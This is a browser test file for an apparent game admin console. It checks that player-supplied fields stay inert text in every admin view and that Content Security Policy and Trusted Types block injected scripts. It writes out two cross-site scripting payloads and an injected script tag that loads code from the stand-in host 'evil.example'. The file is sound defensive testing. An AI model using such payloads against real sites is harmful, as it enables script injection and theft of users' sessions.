import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { dataFolder } from '../../src/data/folder.js';
import { browserTest, type Watched } from './browser.js';
import { logIn, withConsole, withPassword, type Console } from './console.js';

const payloads = ['<img src=x onerror="window.broken=1">', '"><script>window.broken=1</script>'] as const;
const [image, script] = payloads;

/** Every view, of a player and a table where it is of one. */
const viewsOf = (pk: number) => [
  ...['', '/players', `/players/${pk}`, `/players/${pk}/items`, `/players/${pk}/records`],
  ...[`/players/${pk}/missions`, `/players/${pk}/mails`, `/players/${pk}/sessions`, `/players/${pk}/bind`],
  ...['/reviews', '/invites', '/mail', '/mail/new', '/notices', '/darkmoon', '/rankings', '/rankings/album'],
  ...[
    '/rankings/darkmoon',
    '/tables',
    '/tables/users',
    '/tables/userMailBoxes',
    '/settings',
    '/backups',
    '/audit',
  ],
];

async function visit({ page }: Watched, { to }: Console, path: string): Promise<void> {
  await page.goto(`${to.address}/admin${path}`);
  await page.getByRole('heading', { level: 1 }).waitFor();
  await page.locator('[role=status]', { hasText: 'Loading' }).first().waitFor({ state: 'detached' });
}

/** A server where players, mails and notices are scripts that would like to run. */
async function poison(console: Console): Promise<number> {
  const { to } = console;
  const mallory = await withPassword(to, 'mallory');
  const values = { nickname: image, id: script, email: image, banReason: script };
  await to.app.store.write([mallory.pk], async (tx) => {
    await tx.updateTable('users').set(values).where('pk', '=', mallory.pk).execute();
    await tx
      .insertInto('userMailBoxes')
      .values({ UserPk: mallory.pk, title: image, description: script, state: 0, itemRewards: '[]' })
      .execute();
  });
  return mallory.pk;
}

const notices = (root: string) =>
  writeFile(
    join(dataFolder(root).config, 'notice.json'),
    JSON.stringify([{ title: image, content: script, [image]: script }]),
  );

browserTest('what players wrote is text in every view, and no page asks another machine for anything', () =>
  withConsole(
    async (console) => {
      const { to, person } = console;
      const pk = await poison(console);
      const watched = await person();
      const { page, requests, complaints } = watched;
      await logIn(page, to.address);
      const seen = new Set<string>();
      for (const path of viewsOf(pk)) {
        await visit(watched, console, path);
        const text = await page.locator('main').innerText();
        for (const payload of payloads) if (text.includes(payload)) seen.add(`${path} ${payload}`);
        assert.is(await page.evaluate('window.broken'), undefined, path);
        assert.is(await page.locator('main img, main script').count(), 0, path);
      }
      // The payloads were really there to be seen.
      for (const path of [
        '/players',
        `/players/${pk}`,
        `/players/${pk}/mails`,
        '/notices',
        '/tables/users',
      ]) {
        assert.ok(
          [...seen].some((each) => each.startsWith(`${path} `)),
          `${path}: ${[...seen].join('\n')}`,
        );
      }
      const elsewhere = requests.filter((url) => new URL(url).origin !== to.address);
      assert.equal([elsewhere, complaints], [[], []]);
      assert.ok(requests.length > 50);
    },
    { prepare: ({ root }) => notices(root) },
  ),
);

browserTest('a script that gets into the page all the same is not run', () =>
  withConsole(async ({ to, person }) => {
    const { page, complaints } = await person();
    await logIn(page, to.address);
    await page
      .evaluate(
        `(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.body.append(script);
      const link = document.createElement('a');
      link.setAttribute('onclick', 'window.broken = 1');
      document.body.append(link);
      link.click();
    })()`,
      )
      .catch(() => undefined);
    const refused = await page.evaluate("document.body.innerHTML = '<b>x</b>'").then(String, String);
    assert.match(refused, /TrustedHTML/);
    assert.is(await page.evaluate('window.broken'), undefined);
    assert.ok(complaints.some((complaint) => /Content Security Policy|TrustedScriptURL/.test(complaint)));
  }),
);

test.run();
